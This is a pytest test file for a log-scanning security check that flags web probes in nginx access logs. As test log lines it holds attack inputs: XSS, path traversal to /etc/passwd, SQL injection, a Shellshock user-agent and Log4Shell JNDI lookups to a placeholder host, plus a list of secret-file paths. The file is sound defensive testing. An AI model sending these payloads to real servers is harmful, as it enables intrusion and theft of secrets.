# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The correctness cases of web_probes on real files below a made-up root. The number of the case is in the name of the test."""

from __future__ import annotations

import bz2
import gzip
import lzma
import os
from pathlib import Path
from typing import Any

import pytest

from ansible_collections.bottomup.security.plugins.module_utils.checks import web_probes, web_probes_address
from ansible_collections.bottomup.security.plugins.module_utils.host.machine import Machine

NOW = 1795327200  # 2026-11-22T06:00:00Z
STAMP = "22/Nov/2026:05:00:00 +0000"
LOG = "/var/log/nginx/access.log"


def line(request: str, status: int = 404, size: int = 153, who: str = "192.0.2.7", referer: str = "-", agent: str = "curl/7.88.1", stamp: str = STAMP) -> bytes:
    return f'{who} - - [{stamp}] "{request}" {status} {size} "{referer}" "{agent}"\n'.encode()


def get(target: str, status: int = 404, size: int = 153, **rest: str) -> bytes:
    return line(f"GET {target} HTTP/1.1", status, size, **rest)


NORMAL = b"".join(get(f"/products/{number}", 200, 5000 + number, who=f"198.51.100.{number % 200}", referer="https://shop.example.com/") for number in range(20))


class Server:
    """A file tree, judged."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.put("/proc/812/comm", b"nginx\n")

    def put(self, path: str, content: bytes) -> Path:
        place = self.root / path.lstrip("/")
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content)
        os.utime(place, (NOW, NOW))
        return place

    def run(self, **options: Any) -> dict[str, Any]:
        options.setdefault("list_hits", True)
        return web_probes.run(options, Machine(os.fsencode(self.root), now=NOW))


@pytest.fixture
def server(tmp_path: Path) -> Server:
    return Server(tmp_path)


def categories(result: dict[str, Any]) -> list[list[str]]:
    return [hit["categories"] for hit in result["data"]["hits"]]


def rules(result: dict[str, Any]) -> dict[str, str]:
    return {finding["rule"]: finding["severity"] for finding in result["findings"]}


@pytest.mark.parametrize(
    ("name", "request_line", "expected"),
    [
        ("case_1_tls", "\\x16\\x03\\x01\\x02\\x00\\x01", "malformed"),
        ("case_3_escaped_quote", "GET /search?q=\\x22><script>alert(1)</script> HTTP/1.1", "xss"),
        ("case_9_double_slash", "GET //phpMyAdmin-2.8.2.3/scripts/setup.php HTTP/1.1", "cms_admin"),
        ("case_9_upper", "GET /PhpMyAdmin HTTP/1.1", "cms_admin"),
        ("case_9_percent", "GET /%70hpmyadmin HTTP/1.1", "cms_admin"),
        ("case_10_encoded", "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1", "traversal"),
        ("case_10_twice", "GET /..%252f..%252fetc%252fpasswd HTTP/1.1", "traversal"),
        ("case_10_overlong", "GET /%c0%ae%c0%ae/%c0%ae%c0%ae/x HTTP/1.1", "traversal"),
        ("case_10_tomcat", "GET /..;/manager/html HTTP/1.1", "traversal"),
        ("case_16_images", "GET /images/../../etc/passwd HTTP/1.1", "traversal"),
        ("case_16_assets", "GET /assets/..%2f..%2fconfig/database.yml HTTP/1.1", "rails"),
        *[
            (f"case_17_{path}", f"GET {path} HTTP/1.1", "rails")
            for path in [
                "/rails/info/properties",
                "/rails/info/routes",
                "/rails/mailers",
                "/letter_opener",
                "/sidekiq",
                "/console",
                "/log/production.log",
                "/config/master.key",
                "/config/credentials.yml.enc",
                "/.bundle/config",
                "/Gemfile.lock",
                "/tmp/restart.txt",
                "/.ruby-version",
                "/storage/",
                "/public/",
            ]
        ],
        ("case_24_connect", "CONNECT mail.example.net:25 HTTP/1.1", "open_proxy"),
        ("case_24_absolute", "GET http://other.example.net/ HTTP/1.0", "open_proxy"),
    ],
    ids=lambda value: value if isinstance(value, str) and value.startswith("case") else "",
)
def test_what_a_probe_is(server: Server, name: str, request_line: str, expected: str) -> None:
    status = 400 if expected == "malformed" else 404
    server.put(LOG, NORMAL + line(request_line, status))
    result = server.run()
    assert result["data"]["totals"]["unparsed"] == 0
    assert len(result["data"]["hits"]) == 1, name
    hit = result["data"]["hits"][0]
    assert expected in hit["categories"]
    assert hit["line"] == 21
    assert hit["file"] == LOG


@pytest.mark.parametrize(
    "target",
    [
        "/.well-known/acme-challenge/x",
        "/.well-known/apple-app-site-association",
        "/blog/2018/02/etc-passwd",
        "/select_plan",
        "/categories/union/items",
        "/search?q=drop+earring",
        "/search?q=select+table",
        "/rails/active_storage/blobs/redirect/eyJf--ab/photo.jpg",
        "/api/v2/items/12.json",
        "/passwords/new",
        "/products/12-console-games",
        "/search?q=o%27neill",
        "/search?q=50%25+off&utf8=%E2%9C%93",
        "/login?return_to=https%3A%2F%2Fshop.example.com%2Fcart",
        "/files/Screenshot%20(2).png",
        "/images/%7B%7Bphoto.url%7D%7D",
        "/assets/application-9a1de644815ef6d1.js",
        "/tags/c%2B%2B",
        "/cable",
        "/up",
    ],
)
@pytest.mark.parametrize("status", [200, 404])
def test_cases_11_and_12_what_is_none(server: Server, target: str, status: int) -> None:
    server.put(LOG, NORMAL + get(target, status, 4000))
    result = server.run()
    assert result["data"]["hits"] == []
    assert result["status"] == "ok"


def test_case_2_an_empty_request_is_read_and_is_no_probe(server: Server) -> None:
    server.put(LOG, NORMAL + line("", 400, 0, agent="-"))
    data = server.run()["data"]
    assert (data["totals"]["lines"], data["totals"]["empty_requests"], data["hits"]) == (21, 1, [])


def test_case_4_apache_escapes_touch_no_neighbour(server: Server) -> None:
    server.put(LOG, NORMAL + line('GET /a\\"b HTTP/1.1', 200) + get("/.env"))
    data = server.run()["data"]
    assert (data["totals"]["lines"], data["totals"]["unparsed"], [hit["line"] for hit in data["hits"]]) == (22, 0, [22])


def test_case_5_the_virtual_host_is_not_the_client(server: Server) -> None:
    server.put(LOG, b"".join(b"www.x.com:443 " + one for one in (NORMAL + get("/.env")).splitlines(keepends=True)))
    assert [client["client"] for client in server.run()["data"]["clients"]] == ["192.0.2.7"]


def test_case_6_fields_behind_and_the_forwarded_address(server: Server) -> None:
    tail = b' "203.0.113.9, 10.0.0.2" rt=0.012\n'
    server.put(LOG, (NORMAL + get("/.env")).replace(b"198.51.100.", b"10.0.0.").replace(b"192.0.2.7", b"10.0.0.3").replace(b"\n", tail))
    data = server.run()["data"]
    assert data["totals"]["unparsed"] == 0
    assert [client["client"] for client in data["clients"]] == ["203.0.113.9"]


def test_case_10_the_forwarded_address_of_a_stranger_is_not_believed(server: Server) -> None:
    server.put(LOG, (NORMAL + get("/.env")).replace(b"\n", b' "203.0.113.9"\n'))
    assert [client["client"] for client in server.run(trusted_proxies=["10.0.0.0/8"])["data"]["clients"]] == ["192.0.2.7"]


def test_case_7_json(server: Server) -> None:
    server.put(
        LOG,
        b'{"time_local":"'
        + STAMP.encode()
        + b'","remote_addr":"192.0.2.9","request":"GET /.env HTTP/1.1","status":"200","body_bytes_sent":"312","http_user_agent":"x"}\n',
    )
    result = server.run()
    assert rules(result) == {"web_probes.answered": "critical"}
    assert result["findings"][0]["title"] == "/.env answered 200 (312 bytes) to a probe for secrets"
    assert result["data"]["clients"][0]["client"] == "192.0.2.9"


def test_case_7_a_json_format_with_names_of_its_own(server: Server) -> None:
    server.put(
        "/etc/nginx/nginx.conf",
        b"""http { log_format mine escape=json '{"wann":"$time_iso8601","wer":"$remote_addr",' '"was":"$request","ergebnis":$status,"menge":$body_bytes_sent}';
      include sites/*.conf; }""",
    )
    server.put("/etc/nginx/sites/shop.conf", b"server { server_name shop.example.com; access_log /srv/logs/shop.log mine; }")
    server.put("/srv/logs/shop.log", b'{"wann":"2026-11-22T05:00:00+00:00","wer":"192.0.2.9","was":"GET /.git/config HTTP/1.1","ergebnis":200,"menge":92}\n')
    result = server.run()
    assert [(hit["file"], hit["category"]) for hit in result["data"]["hits"]] == [("/srv/logs/shop.log", "vcs_backup")]


def test_case_7_raw_quotes_are_counted_as_unparsed(server: Server) -> None:
    server.put(LOG, NORMAL + b'192.0.2.7 - - [never] "GET /a"b" HTTP/1.1" 200 1 "-" "-"\n')
    data = server.run()["data"]
    assert (data["totals"]["lines"], data["totals"]["unparsed"], len(data["unparsed_samples"])) == (20, 1, 1)


@pytest.mark.parametrize(
    ("logged", "shown"),
    [("2001:db8:1:2:3::1", "2001:db8:1:2::/64"), ("::ffff:1.2.3.4", "1.2.3.4"), ("unix:", "unix:"), ("-", "-"), ("2001:0DB8:1:2::9", "2001:db8:1:2::/64")],
)
def test_case_8_addresses(server: Server, logged: str, shown: str) -> None:
    server.put(LOG, NORMAL + get("/.env", who=logged))
    data = server.run()["data"]
    assert data["totals"]["unparsed"] == 0
    assert [client["client"] for client in data["clients"]] == [shown]


@pytest.mark.parametrize(
    ("logged", "found"),
    [(b"0000:0000:0000:0000:0000:ffff:192.168.100.228", "192.168.100.228"), (b"::1", "::1"), (b":" * 8192, "None"), (b"1:" * 40, "None"), (b"a:b", "None")],
    ids=["longest", "shortest", "colons", "too_long", "too_few"],
)
def test_case_8_what_an_address_is(logged: bytes, found: str) -> None:
    assert str(web_probes_address.address(logged)) == found


@pytest.mark.parametrize(
    ("size", "expected"),
    [(312, {"web_probes.answered": "critical"}), (9000, {"web_probes.soft_404": "info"}), (0, {"web_probes.soft_404": "info"})],
)
def test_case_13_the_size_of_the_index_is_no_leak(server: Server, size: int, expected: dict[str, str]) -> None:
    server.put(LOG, NORMAL + get("/", 200, 9000) + get("/.env", 200, size))
    assert rules(server.run()) == expected


def test_case_13_what_several_probes_get_alike_is_the_catch_all(server: Server) -> None:
    probes = b"".join(get(path, 200, 7001) for path in ("/.env", "/.git/config", "/backup.sql", "/config/master.key"))
    server.put(LOG, NORMAL + probes + get("/.aws/credentials", 200, 116))
    result = server.run()
    assert rules(result) == {"web_probes.soft_404": "info", "web_probes.answered": "critical"}
    assert result["findings"][0]["subject"] == "secrets /.aws/credentials"


@pytest.mark.parametrize("status", [301, 302, 304, 401, 403, 404, 444, 499])
def test_case_14_no_success(server: Server, status: int) -> None:
    server.put(LOG, NORMAL + get("/.env", status))
    result = server.run()
    assert result["data"]["totals"]["hits"] == 1
    assert result["data"]["totals"]["answered"] == 0
    assert result["findings"] == []


def test_a_server_error_of_an_exploit_reached_code(server: Server) -> None:
    server.put(LOG, NORMAL + get("/items?id=1%27%20or%201=1--", 500))
    assert rules(server.run()) == {"web_probes.server_error": "high"}


def test_case_15_the_referer_hides_nothing(server: Server) -> None:
    server.put(LOG, NORMAL + get("/.env", 200, 300, referer="https://shop.example.com/assets/") + get("/.env?x=images", 404))
    assert server.run()["data"]["totals"]["hits"] == 2


def test_case_16_known_paths_never_silence_a_signature(server: Server) -> None:
    server.put(LOG, NORMAL + get("/images/.git/config", 200, 92))
    assert rules(server.run(known_paths=[".*"])) == {"web_probes.answered": "critical"}


def test_known_paths_are_no_missing_pages_and_the_path_alone_tells(server: Server) -> None:
    missing = get("/images/a.png") + get("/x?y=images") + get("/gone", referer="https://a.example.com/images/") + get("/images/b.png?v=1")
    server.put(LOG, NORMAL + missing)
    assert server.run()["data"]["totals"]["missing_pages"] == 2
    assert server.run(known_paths=["gone"])["data"]["totals"]["missing_pages"] == 3


def test_what_the_application_serves_is_no_missing_page(server: Server) -> None:
    server.put("/srv/shop/public/icons/a.svg", b"<svg/>")
    server.put(LOG, NORMAL + get("/icons/a.svg") + get("/icons/b.svg"))
    assert server.run(public_dirs=["/srv/shop/public"])["data"]["totals"]["missing_pages"] == 1


def test_case_26_a_broken_link_of_a_virtual_host_of_the_same_name(server: Server) -> None:
    one = get("/img/gone.png", referer="https://www.x.com/cart")
    server.put(LOG, b"".join(b"www.x.com " + line for line in (NORMAL + one).splitlines(keepends=True)) + b"www.y.com " + one)
    totals = server.run()["data"]["totals"]
    assert (totals["broken_links"], totals["missing_pages"]) == (1, 1)


def test_sidekiq_behind_a_login_is_no_alarm(server: Server) -> None:
    server.put(LOG, NORMAL + get("/sidekiq", 200, 4100).replace(b" - - ", b" - admin "))
    assert rules(server.run()) == {"web_probes.answered": "low"}


ENV = get("/.env", 200, 312)


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("access.log.1", NORMAL + ENV, ""),
        ("access.log-20261122", NORMAL + ENV, ""),
        ("access.log.2.gz", gzip.compress(NORMAL + ENV), ""),
        ("access.log-20261122.gz", gzip.compress(NORMAL) + gzip.compress(ENV), ""),
        ("access.log-20261122-1699999.gz", gzip.compress(NORMAL + ENV) + b"\0" * 512, ""),
        ("access.log.3.gz", gzip.compress(NORMAL + ENV) + b"garbage", "garbage"),
        ("access.log.4.gz", gzip.compress(NORMAL + ENV)[:-9], "cut short"),
        ("access.log.5.gz", NORMAL + ENV, ""),
        ("access.log.1.bz2", bz2.compress(NORMAL + ENV), ""),
        ("access.log.1.xz", lzma.compress(NORMAL + ENV), ""),
    ],
    ids=lambda value: value if isinstance(value, str) and value.startswith("access") else "",
)
def test_case_18_rotated_and_packed(server: Server, name: str, content: bytes, problem: str) -> None:
    server.put(f"/var/log/nginx/{name}", content)
    result = server.run()
    assert rules(result)["web_probes.answered"] == "critical"
    assert result["data"]["totals"]["lines"] == 21
    if problem:
        assert result["status"] == "incomplete"
        assert problem in result["status_reason"]
    else:
        assert result["status"] == "findings"


def test_case_18_an_empty_gz_beside_a_good_log(server: Server) -> None:
    server.put("/var/log/nginx/access.log.9.gz", b"")
    server.put(LOG, NORMAL)
    assert server.run()["status"] == "ok"


@pytest.mark.parametrize(
    ("stamp", "inside"),
    [
        ("22/Nov/2026:05:59:59 +0000", True),
        ("21/Nov/2026:06:00:00 +0000", True),
        ("21/Nov/2026:05:59:59 +0000", False),
        ("22/Nov/2026:14:59:59 +0900", True),
        ("21/Nov/2026:14:59:59 +0900", False),
        ("21/Nov/2026:14:59:59 -0900", True),
        ("29/Feb/2024:05:00:00 +0000", False),
    ],
)
def test_case_19_the_window(server: Server, stamp: str, inside: bool) -> None:
    server.put(LOG, NORMAL + get("/.env", stamp=stamp))
    assert server.run()["data"]["totals"]["hits"] == inside


def test_case_19_there_is_no_such_day(server: Server) -> None:
    server.put(LOG, NORMAL + get("/.env", stamp="29/Feb/2026:05:00:00 +0000"))
    assert server.run()["data"]["totals"]["unparsed"] == 1


def test_case_20_no_last_line_break_windows_line_ends_nulls_and_a_line_of_a_megabyte(server: Server) -> None:
    long = get("/" + "a" * 1_500_000)
    server.put(LOG, NORMAL.replace(b"\n", b"\r\n") + b"\0" * 70000 + get("/.env") + long + get("/.git/config").rstrip(b"\n"))
    data = server.run()["data"]
    assert data["totals"]["unparsed"] == 1
    assert [hit["category"] for hit in data["hits"]] == ["secrets", "vcs_backup"]


def test_case_21_two_names_of_one_file(server: Server) -> None:
    shared = server.put("/home/deploy/apps/shop/shared/log/nginx.access.log", NORMAL + ENV)
    current = server.root / "home/deploy/apps/shop/current"
    current.mkdir()
    (current / "log").symlink_to(shared.parent)
    data = server.run()["data"]
    assert data["totals"]["lines"] == 21
    assert len(data["files_read"]) == 1


def test_case_23_what_cannot_be_read_is_said(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    place = server.put(LOG, NORMAL)
    place.chmod(0)
    real = os.open

    def refuse(path: Any, *rest: Any, **named: Any) -> int:
        if os.fsencode(path).endswith(b"access.log"):
            raise PermissionError(13, "Permission denied")
        return real(path, *rest, **named)

    monkeypatch.setattr(os, "open", refuse)
    result = server.run()
    assert result["status"] == "incomplete"
    assert "Permission denied" in result["status_reason"]


def test_case_25_payloads_in_headers(server: Server) -> None:
    server.put(
        LOG,
        NORMAL
        + get("/", 200, 9000, agent="() { :;}; /bin/id")
        + get("/", 200, 9000, agent="${jndi:ldap://x/a}")
        + get("/", 200, 9000, referer="${jndi:dns://x}"),
    )
    assert sorted(one[0] for one in categories(server.run())) == ["injection", "log4shell", "log4shell"]


def test_case_26_the_own_broken_links_are_kept_apart(server: Server) -> None:
    server.put("/etc/nginx/nginx.conf", b"http { server { server_name shop.example.com; access_log /var/log/nginx/access.log; } }")
    server.put(LOG, NORMAL + get("/img/gone.png", referer="https://shop.example.com/cart") * 30)
    data = server.run()["data"]
    assert data["hits"] == []
    assert data["broken_links"] == [{"path": "/img/gone.png", "count": 30, "referer": "https://shop.example.com/cart"}]


def test_case_27_googlebot_is_no_exemption(server: Server) -> None:
    server.put(LOG, NORMAL + get("/.env", 200, 312, agent="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"))
    assert rules(server.run()) == {"web_probes.answered": "critical"}


def test_an_empty_log_of_a_running_server_is_incomplete(server: Server) -> None:
    server.put(LOG, b"")
    result = server.run()
    assert result["status"] == "incomplete"
    assert "rotation stopped" in result["status_reason"]


def test_a_server_in_a_container_is_not_the_hosts(server: Server) -> None:
    for pid, namespace in (("812", "pid:[4026532711]"), ("self", "pid:[4026531836]")):
        (server.root / "proc" / pid / "ns").mkdir(parents=True)
        (server.root / "proc" / pid / "ns" / "pid").symlink_to(namespace)
    server.put("/etc/nginx/nginx.conf", b"http { }\n")
    assert server.run()["status"] == "not_applicable"
    server.put("/proc/813/comm", b"nginx\n")
    (server.root / "proc/813/ns").mkdir()
    (server.root / "proc/813/ns/pid").symlink_to("pid:[4026531836]")
    assert server.run()["status"] == "incomplete"


def test_logs_that_match_no_file_are_said(server: Server) -> None:
    reason = server.run(logs=["/srv/evidence/access.log*", "/srv/x.log"])["status_reason"]
    assert reason == "no file matches /srv/evidence/access.log*; no file matches /srv/x.log"
    server.put("/srv/evidence/access.log", b"")
    assert "rotation stopped" in server.run(logs=["/srv/evidence/access.log*"])["status_reason"]


def test_nothing_to_look_at(tmp_path: Path) -> None:
    assert web_probes.run({}, Machine(os.fsencode(tmp_path), now=NOW))["status"] == "not_applicable"


def test_pipes_devices_and_circles_are_said(server: Server) -> None:
    server.put(LOG, NORMAL)
    folder = server.root / "var/log/nginx"
    os.mkfifo(folder / "access.pipe")
    (folder / "access.loop").symlink_to("access.loop")
    (folder / "access.null").symlink_to("/dev/null")
    data = server.run()["data"]
    assert {Path(row["path"]).name: row["why"] for row in data["files_skipped"]} == {
        "access.pipe": "a pipe, not a file",
        "access.loop": "the symbolic links lead in a circle",
        "access.null": "a device, not a file",
    }


def test_all_traffic_from_one_private_address(server: Server) -> None:
    server.put(LOG, b"".join(get(f"/products/{number}", 200, 5000, who="10.0.0.5") for number in range(150)))
    assert rules(server.run()) == {"web_probes.real_ip": "medium"}


def test_wordpress_that_is_served_is_no_probe(server: Server) -> None:
    visits = b"".join(
        get(path, 200, 3000 + number * 997, who=f"198.51.100.{number}")
        for number, path in enumerate(["/wp-login.php", "/index.php", "/wp-content/a.css", "/index.php?p=2"] * 5)
    )
    server.put(LOG, NORMAL + visits)
    result = server.run()
    assert result["status"] == "ok"
    assert "wordpress" in result["data"]["served"]


def test_secrets_do_not_travel(server: Server) -> None:
    server.put(LOG, NORMAL + get("/.env?token=s3cr3tvalue&password=hunter22", 404))
    assert "s3cr3tvalue" not in str(server.run()) and "hunter22" not in str(server.run())


def test_the_configuration_says_what_is_not_read(server: Server) -> None:
    server.put(
        "/etc/nginx/nginx.conf", b"http { access_log syslog:server=10.0.0.1 combined; server { access_log off; } server { access_log /srv/$host.access.log; } }"
    )
    server.put("/srv/a.example.com.access.log", NORMAL + ENV)
    data = server.run()["data"]
    assert data["totals"]["hits"] == 1
    assert {row["path"] for row in data["files_skipped"]} == {"syslog:server=10.0.0.1", "access_log off"}


def test_more_logs_are_read_besides_those_that_are_found(server: Server) -> None:
    server.put(LOG, get("/.env"))
    server.put("/srv/app/log/access.log", get("/.git/config"))
    assert categories(server.run()) != categories(server.run(more_logs=["/srv/app/log/*.log"]))
    both = server.run(more_logs=["/srv/app/log/*.log", LOG])
    assert both["data"]["totals"]["lines"] == 2, "a file that is found twice is read once"
    assert "there is no file /srv/none.log" in server.run(more_logs=["/srv/none.log"])["status_reason"]
